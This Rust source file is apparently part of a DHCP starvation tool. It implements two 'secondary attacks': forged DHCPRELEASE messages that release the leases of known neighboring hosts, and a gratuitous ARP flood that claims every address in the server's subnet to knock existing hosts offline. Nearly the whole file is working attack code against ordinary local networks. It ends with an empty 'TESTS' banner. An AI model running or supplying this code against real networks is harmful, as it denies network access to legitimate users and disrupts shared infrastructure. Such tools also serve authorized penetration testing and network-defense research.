//! Secondary attacks: lease release for known neighbors and the gratuitous
//! ARP knockoff.

use std::net::IpAddr;
use std::sync::Arc;

use anyhow::Context;
use starve_common::config::Mode;
use starve_common::network::range;
use starve_common::{link_sent, notice, sent};

use crate::frames;
use crate::identity::IdentityPool;
use crate::link::PacketLink;
use crate::protocol::LeaseProtocol;
use crate::session::SessionView;
use crate::stop::StopSignal;

/// Sends a release to the server for every neighbor in the session. Returns
/// the number of releases sent.
pub fn release(
    link: &dyn PacketLink,
    protocol: &dyn LeaseProtocol,
    session: &SessionView,
) -> anyhow::Result<usize> {
    if protocol.mode() == Mode::V6 {
        tracing::warn!("IPv6 release is not supported, skipping");
        return Ok(0);
    }
    let Some(server) = session.server() else {
        tracing::warn!("no DHCP server known, nothing to release");
        return Ok(0);
    };

    notice!("***  Sending DHCPRELEASE for neighbors");
    let mut released = 0;
    for (mac, addr) in session.neighbors() {
        let xid = protocol.transaction_id();
        let Some(frame) = protocol.build_release(&server, mac, addr, xid)? else {
            continue;
        };
        sent!("Releasing {mac} - {addr} serverip={} xid={xid}", server.addr);
        link.send(&frame)
            .with_context(|| format!("releasing {addr} of {mac}"))?;
        tracing::debug!("{frame:?}");
        released += 1;
    }
    Ok(released)
}

/// Claims every address of the server's subnet from a fresh identity, which
/// knocks the current holders off the segment. Returns the number of frames
/// sent.
pub async fn knockoff(
    link: Arc<dyn PacketLink>,
    mode: Mode,
    session: &SessionView,
    identities: &IdentityPool,
    stop: &StopSignal,
) -> anyhow::Result<usize> {
    if mode == Mode::V6 {
        notice!("IPv6 - gratuitous ARP knockoff not supported at this point");
        return Ok(0);
    }
    let (Some(server), Some(mask)) = (session.server(), session.subnet_mask()) else {
        tracing::warn!("server subnet unknown, skipping knockoff");
        return Ok(0);
    };
    let IpAddr::V4(server_ip) = server.addr else {
        tracing::warn!("server {} is not IPv4, skipping knockoff", server.addr);
        return Ok(0);
    };
    let pool = range::mask_range(server_ip, mask)
        .with_context(|| format!("bad subnet mask {mask} offered by {server_ip}"))?;

    let mut sent = 0;
    for addr in pool.to_iter() {
        if stop.is_triggered() {
            break;
        }
        link.send(&frames::gratuitous_arp(identities.next(), addr))
            .with_context(|| format!("knocking off {addr}"))?;
        link_sent!("Gratuitous_ARP - knock offline {addr}");
        sent += 1;
        tokio::task::yield_now().await;
    }
    Ok(sent)
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
